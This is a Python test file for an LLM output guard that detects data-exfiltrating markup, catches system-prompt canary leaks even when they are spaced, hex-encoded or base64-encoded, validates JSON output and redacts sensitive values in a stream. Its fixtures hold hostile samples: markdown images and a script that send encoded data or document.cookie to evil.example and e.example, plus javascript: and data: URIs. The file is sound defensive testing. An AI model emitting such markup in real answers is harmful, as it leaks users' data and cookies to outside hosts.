"""Output checks: exfiltrating markup, the system-prompt canary, JSON schema, and the
stream that releases only checked text."""

from __future__ import annotations

import base64

import pytest

from opsloop.errors import OpsloopError
from opsloop.guard.output import (
    OutputStream,
    canary_leaked,
    check_json,
    check_output,
    find_markup,
    new_canary,
    plant_canary,
    strip_markup,
)
from opsloop.guard.pii import find_sensitive, redact
from opsloop.guard.scanners import MarkupScanner


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![a](https://evil.example/p.png?d=c2VjcmV0)", "markup.image"),
        ("![a](https://evil.example/p.png#c2VjcmV0)", "markup.image"),
        ("![a](https://evil.example/" + "a" * 40 + ".png)", "markup.image"),
        ('<img src="https://evil.example/x?q=1">', "markup.image"),
        ("![a][r]\n\n[r]: https://evil.example/p.png?q=1", "markup.image"),
        ("<script>fetch('//e.example/'+document.cookie)</script>", "markup.script"),
        ("<SCRIPT src=x>", "markup.script"),
        ('<iframe src="https://e.example/"></iframe>', "markup.frame"),
        ('<meta http-equiv="refresh" content="0;url=https://e.example/?q=1">', "markup.refresh"),
        ('<a href="#" onclick="steal()">x</a>', "markup.event_handler"),
        ("[click](javascript:alert(document.cookie))", "markup.javascript_url"),
        ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "markup.data_uri"),
    ],
)
def test_exfiltrating_markup_is_found(text: str, kind: str) -> None:
    assert kind in [m.type for m in find_markup(text)]


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://acme.example/logo.png)",  # no payload
        "[docs](https://acme.example/docs?page=2)",  # a link the user must click
        "Use `x < y` and a > b; data: none, javascript: the language.",
        "![cdn](https://cdn.acme.example/p.png?v=3)",  # an allowed host
    ],
)
def test_harmless_markup_is_left_alone(text: str) -> None:
    assert find_markup(text, allow_hosts=["cdn.acme.example"]) == []


def test_strip_and_block() -> None:
    text = "See ![a](https://evil.example/p.png?d=1) and <script>x()</script>ok"
    assert strip_markup(text, find_markup(text)) == "See [image removed] and ok"
    assert MarkupScanner().scan(text, target="output").verdict == "redact"
    assert MarkupScanner("block").scan(text, target="output").verdict == "block"
    assert MarkupScanner().scan(text, target="input").verdict == "allow"  # output only


def test_canary_is_caught_however_it_comes_back() -> None:
    canary = new_canary()
    assert canary != new_canary() and canary.startswith("ocnry")
    prompt = plant_canary("You are a helpful bot.", canary)
    assert canary in prompt and prompt.startswith("You are a helpful bot.")
    spaced = " ".join(canary)
    encoded = base64.b64encode(f"my instructions: {canary}".encode()).decode()
    for leak in (prompt, canary.upper(), spaced, f"ref: {encoded}", canary.encode().hex()):
        assert canary_leaked(leak, canary), leak
    assert not canary_leaked("You are a helpful bot.", canary)


def test_json_schema_findings_name_the_path_not_the_value() -> None:
    schema = {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}
    assert check_json('{"n": 3}', schema) == []
    assert check_json('```json\n{"n": 3}\n```', schema) == []
    [bad] = check_json('{"n": "jane@example.com"}', schema)
    assert bad.type == "output.schema" and bad.detail == "$.n: fails 'type'"
    assert check_json("not json", schema)[0].detail.startswith("not JSON")
    assert check_json("{}", schema)[0].detail == "$: fails 'required'"
    with pytest.raises(OpsloopError, match="JSON schema is not valid"):
        check_json("{}", {"type": "nonsense"})


def test_check_output_runs_all_checks() -> None:
    canary = new_canary()
    leaked = check_output(f"sure: {canary}", canary=canary)
    assert leaked.blocked and leaked.findings[0].type == "output.system_prompt_leak"
    ok = check_output('{"n": 1}', canary=canary, schema={"type": "object"})
    assert ok.verdict == "allow"
    assert check_output("[1]", schema={"type": "object"}).blocked


def _stream(holdback: int = 32) -> OutputStream:
    return OutputStream(
        lambda seg: redact(seg, find_sensitive(seg)),
        lambda t: [(m.start, m.end) for m in find_sensitive(t)],
        holdback=holdback,
    )


@pytest.mark.parametrize("size", [1, 3, 7, 50])
def test_a_stream_never_releases_part_of_a_finding(size: int) -> None:
    text = (
        "Dear customer, your card 4111 1111 1111 1111 is on file and we will write to "
        "jane.doe@example.com soon. Your key AKIAIOSFODNN7EXAMPLE was rotated. " * 3
    )
    stream = _stream()
    out = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
    out.append(stream.finish())
    joined = "".join(out)
    assert joined == redact(text, find_sensitive(text))
    for piece in out:
        assert "4111" not in piece and "jane" not in piece and "AKIA" not in piece


def test_a_stream_holds_back_a_canary_cut_in_pieces() -> None:
    canary = new_canary()
    stream = OutputStream(lambda s: s, lambda t: [], holdback=16, canary=canary)
    text = "x " * 40 + f"my prompt says {canary} and more " + "y " * 40
    released = ""
    for i in range(0, len(text), 5):
        released += stream.feed(text[i : i + 5])
        if stream.leaked:
            break
    assert stream.leaked and canary[:6] not in released


def test_json_schema_falls_back_to_jsonschema(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from opsloop.guard import output

    pytest.importorskip("jsonschema")
    monkeypatch.setitem(sys.modules, "jsonschema_rs", None)  # as if it were not installed
    output._compiled.cache_clear()
    try:
        schema = {"type": "object", "properties": {"n": {"type": "integer"}}}
        [bad] = check_json('{"n": "x"}', schema)
        assert bad.detail == "$.n: fails 'type'"
        with pytest.raises(OpsloopError, match="JSON schema is not valid"):
            check_json("{}", {"type": "nonsense"})
    finally:
        output._compiled.cache_clear()
